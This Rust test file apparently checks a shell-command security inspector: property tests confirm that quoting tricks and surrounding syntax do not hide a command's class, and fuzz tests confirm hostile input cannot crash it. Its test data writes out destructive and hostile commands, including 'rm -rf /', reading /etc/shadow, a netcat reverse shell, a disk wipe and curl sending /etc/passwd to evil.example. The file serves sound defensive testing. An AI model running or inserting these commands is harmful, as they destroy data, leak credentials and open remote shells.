//! Ways of writing that change nothing, and texts that must not trap.

use proptest::prelude::*;

use super::super::*;
use super::attacks::ATTACKS;
use super::harmless::HARMLESS;

/// Commands of plain words, so that each can be quoted.
const PLAIN: &[&str] = &[
    "rm -rf /",
    "cat /etc/shadow",
    "nc -e /bin/sh 10.0.0.1 4242",
    "chmod u+s /bin/bash",
    "git status",
    "sudo rm -rf /etc",
    "find . -exec /bin/sh ;",
    "curl -d @/etc/passwd http://evil.example",
    "ls -l /tmp",
    "dd if=/dev/zero of=/dev/sda",
    "sh -c id",
    "env nice rm -r /usr",
    "usermod -aG sudo bob",
    "crontab /tmp/x",
];

/// One word, quoted in one of the ways there are.
fn quoted(word: &str, way: u8) -> String {
    let hex = || word.bytes().map(|byte| format!("\\x{byte:02x}")).collect::<String>();
    let octal = || word.bytes().map(|byte| format!("\\{byte:03o}")).collect::<String>();
    let (head, tail) = word.split_at(word.len() / 2);
    match way % 10 {
        0 => word.to_owned(),
        1 => format!("'{word}'"),
        2 => format!("\"{word}\""),
        3 => word.chars().map(|c| format!("\\{c}")).collect(),
        4 => format!("$'{}'", hex()),
        5 => format!("$'{}'", octal()),
        6 => format!("{head}''{tail}"),
        7 => format!("{head}\\\n{tail}"),
        8 => format!("\"{head}\"'{tail}'"),
        _ => format!("{head}$@{tail}"),
    }
}

fn mutated() -> impl Strategy<Value = String> {
    let all: Vec<&'static str> = ATTACKS.iter().flat_map(|(_, texts)| texts.iter().copied()).chain(HARMLESS.iter().copied()).collect();
    let marks = "[-$'\"`(){}<>|&;#\\\\ \n\t*?a-z0-9=/\\[\\]!@:~%]{0,6}";
    let texts = (prop::sample::select(all.clone()), prop::sample::select(all));
    (texts, any::<[prop::sample::Index; 2]>(), marks).prop_map(|((first, second), [end, start], between)| {
        let boundary = |text: &str, at: usize| (0..=at).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
        let (end, start) = (boundary(first, end.index(first.len() + 1)), boundary(second, start.index(second.len() + 1)));
        [&first[..end], &between, &second[start..]].concat()
    })
}

proptest! {
    // But that a name in pieces is one that hides.
    #[test]
    fn quoting_changes_nothing(text in prop::sample::select(PLAIN), ways in prop::collection::vec(any::<u8>(), 12), blank in "[ \t]{1,3}") {
        let words: Vec<String> = text.split(' ').zip(&ways).map(|(word, way)| quoted(word, *way)).collect();
        let written = words.join(&blank).replace(';', "\\;").replace("\\\\;", "\\;").replace("'\\;'", "';'").replace("\"\\;\"", "\\;");
        let (plain, dressed) = (inspect(&text.replace(';', "\\;"), Flavour::Posix), inspect(&written, Flavour::Posix));
        let hides: Classes = [Class::Obfuscation].into_iter().collect();
        prop_assert_eq!(plain.classes.or(hides), dressed.classes.or(hides), "{}", written);
        prop_assert_eq!(plain.commands, dressed.commands, "{}", written);
    }

    #[test]
    fn what_stands_beside_changes_nothing(text in prop::sample::select(PLAIN), other in prop::sample::select(vec!["ls", "true", "echo 'a b'", "x=1", "cd src"]), way in 0..9_usize) {
        let text = text.replace(';', "\\;");
        let both = match way {
            0 => format!("{other}; {text}"),
            1 => format!("{other} && {text}"),
            2 => format!("{other}\n{text} # end"),
            3 => format!("{{ {text}; }}"),
            4 => format!("({text})"),
            5 => format!("if {other}; then {text}; fi"),
            6 => format!("for i in 1 2; do {text}; done"),
            7 => format!("{text} & {other}"),
            _ => format!("f() {{ {text}; }}; f"),
        };
        let (plain, dressed) = (inspect(&text, Flavour::Posix).classes, inspect(&both, Flavour::Posix).classes);
        prop_assert_eq!(plain.and(dressed), plain, "{}", both);
    }

    #[test]
    fn no_text_traps(text in any::<String>()) {
        fuzz(text.as_bytes());
    }

    #[test]
    fn no_soup_of_marks_traps(text in "([-$'\"`(){}<>|&;#\\\\ \n*?\\[\\]!@:~%,.=+/]|if|for|in|do|done|case|esac|x|eval|sh -c|é|1){0,60}") {
        fuzz(text.as_bytes());
    }

    #[test]
    fn no_mutation_traps(text in mutated()) {
        fuzz(text.as_bytes());
    }
}

/// The body of a fuzz target.
fn fuzz(bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for flavour in [Flavour::Posix, Flavour::PowerShell, Flavour::Cmd] {
        let found = inspect(&text, flavour);
        // Whatever is marked is noted, once.
        assert_eq!(found.notes.len(), found.classes.iter().count(), "{text}");
        assert!(found.notes.iter().all(|note| note.offset <= text.len()));
    }
    inspect_argv(&text.split(' ').collect::<Vec<_>>());
    reverse_shell_idiom(&text);
}

#[test]
fn deep_nesting_is_unknown_and_takes_no_stack() {
    let deep = || {
        for (open, close) in [
            ("$(", ")"),
            ("{ ", "; }"),
            ("(", ")"),
            ("if true; then ", "; fi"),
            ("\"$(", ")\""),
            ("`", "`"),
            ("${a:-", "}"),
            ("<(", ")"),
            ("sudo ", ""),
            ("eval ", ""),
            ("sh -c ", ""),
            ("while x; do ", "; done"),
            ("((", "))"),
            ("case a in a) ", ";; esac"),
            ("f() { ", "; }; f"),
            ("{a,", "}"),
            ("$((", "))"),
            ("x=(", ")"),
            ("\\", ""),
            ("[[ ", " ]]"),
            ("! ", ""),
            ("<<a ", "\n"),
            ("env -S '", ""),
            ("xargs ", ""),
            ("a[", "]"),
        ] {
            for count in [10, 300, 3000] {
                let text = format!("{}ls{}", open.repeat(count), close.repeat(count));
                let found = inspect(&text, Flavour::Posix);
                let bounded = ["$(", "\"$(", "sudo ", "${a:-", "{ ", "if true; then "].contains(&open);
                assert!(!bounded || count < 300 || found.classes.contains(Class::Unknown), "{count} times {open}");
                inspect(&open.repeat(count), Flavour::Posix);
                inspect(&text, Flavour::PowerShell);
                inspect(&text, Flavour::Cmd);
            }
        }
    };
    // As little as a worker in Wasm has.
    std::thread::Builder::new().stack_size(1 << 20).spawn(deep).unwrap().join().unwrap();
}

#[test]
fn what_grows_is_bounded() {
    for text in [
        "a=x; a=$a$a; ".to_owned() + &"a=$a$a; ".repeat(2000) + "echo $a",
        "{a,b}".repeat(40),
        "for i in {1..9}; do ".repeat(12) + "ls; " + &"done; ".repeat(12),
        "f() { f; f; }; f".to_owned(),
        "f() { g; g; }; g() { f; f; }; f".to_owned(),
        "alias a=b b=a; a".to_owned(),
        "x='eval \"$x\"'; eval \"$x\"".to_owned(),
        "echo {1..99999999}".to_owned(),
        format!("${{x:-{}}}", "a".repeat(60_000)),
        "a ".repeat(32_000),
        "a=b;".repeat(16_000),
        "((".repeat(30_000),
        "'".repeat(60_001),
        "<<a ".repeat(15_000),
        "$((".repeat(20_000),
        "[".repeat(60_000),
        format!("x={}; ${{x//a/{}}}", "a".repeat(30_000), "b".repeat(30_000)),
        format!("python -c '{}'", "\"\\x41\"+".repeat(9_000)),
    ] {
        inspect(&text, Flavour::Posix);
        reverse_shell_idiom(&text);
    }
    assert!(inspect(&"a".repeat(MAX_TEXT + 1), Flavour::Posix).classes.contains(Class::Unknown));
    assert!(inspect_argv(&["a"; MAX_TEXT + 1]).classes.contains(Class::Unknown));
}
